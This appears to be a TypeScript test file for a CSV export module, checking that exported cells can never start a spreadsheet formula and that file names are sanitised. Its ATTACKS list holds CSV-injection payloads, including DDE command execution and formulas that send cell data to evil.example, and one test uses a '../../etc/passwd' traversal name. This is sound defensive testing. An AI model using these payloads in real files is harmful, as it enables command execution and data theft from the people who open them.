import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvOf, fileName, recordsOf } from './download.ts'

/** Reads CSV as RFC 4180 says, parting cells at `separator`. */
function read(csv: string, separator = ','): string[][] {
  const rows: string[][] = [['']]
  let quoted = false
  for (let index = 0; index < csv.length; index += 1) {
    const sign = csv[index] ?? ''
    const row = rows.at(-1) ?? []
    const cell = row.at(-1) ?? ''
    if (quoted && sign === '"' && csv[index + 1] === '"') {
      row[row.length - 1] = `${cell}"`
      index += 1
    } else if (sign === '"') quoted = !quoted
    else if (!quoted && sign === separator) row.push('')
    else if (!quoted && sign === '\n') rows.push([''])
    else if (quoted || sign !== '\r') row[row.length - 1] = cell + sign
  }
  return rows.slice(0, -1)
}

const body = (csv: string) => csv.replace(/^\uFEFF/, '')

/** What takes a spreadsheet in: formulas, data exchange, their disguises. */
const ATTACKS = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  "=cmd|'/c calc'!'A1'",
  '+1+1',
  '-1+1',
  '-cmd|x!A1',
  '@SUM(1+1)*cmd|x!A1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  '=WEBSERVICE("https://evil.example/")',
  '=DDE("cmd";"/c calc";"x")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u202E=1+1',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '\u22121+1',
  '|cmd',
  '%0A-3+3',
  '=1+1";=1+1;"',
  'x\n=1+1',
  'x\r\n=1+1',
  'x\u2028=1+1',
  'x",=1+1,"',
  'x;=1+1;',
  'x\t=1+1\t',
]

describe('CSV', () => {
  it.each(ATTACKS.map((text) => [JSON.stringify(text), text]))(
    'never gives a spreadsheet a formula in %s',
    (_, text) => {
      const csv = body(csvOf({ columns: ['a', 'b'], rows: [[text, text]] }))
      for (const separator of [',', ';', '\t']) {
        for (const cell of read(csv, separator).flat()) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠|%]/u)
      }
      expect(csv.trimEnd().split(/[\r\n\u2028\u2029]+/)).toHaveLength(2)
    },
  )

  it('is found out when it does: the same check fails for the plain text', () => {
    expect(read('"=1+1"\n')[0]?.[0]).toMatch(/^=/)
  })

  it('keeps every other text, and tells numbers from texts', () => {
    const rows = [['Ken "K" Sato', '佐藤 健, 2列', -3, true, undefined, '10:05', '']]
    const csv = csvOf({ columns: ['name', 'x', 'n', 'b', 'u', 't', 'e'], rows })
    expect(csv).toMatch(/^\uFEFF"name"/)
    expect(csv.split('\r\n')[1]).toBe('"Ken ""K"" Sato","佐藤 健, 2列",-3,true,,"10:05",""')
    expect(recordsOf({ columns: ['a', 'b'], rows: [['=1', 2]] })).toEqual([{ a: '=1', b: 2 }])
  })

  it('has one line a row and the cells of the table for any text', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.string()), { maxLength: 8 }), (rows) => {
        const cells = read(body(csvOf({ columns: ['a', 'b'], rows })))
        expect(cells).toHaveLength(rows.length + 1)
        for (const row of cells) expect(row).toHaveLength(2)
        for (const cell of cells.flat()) expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@]/u)
      }),
    )
  })

  it('has a name that every system takes', () => {
    expect(fileName('Python: "Monday" <1>/2?*', 'csv')).toBe('Python Monday 1 2.csv')
    expect(fileName('../../etc/passwd\u0000', 'json')).toBe('etc passwd.json')
    expect(fileName(' \u202E ', 'csv')).toBe('lectern.csv')
    expect(fileName('授業'.repeat(80), 'csv')).toHaveLength(84)
  })
})
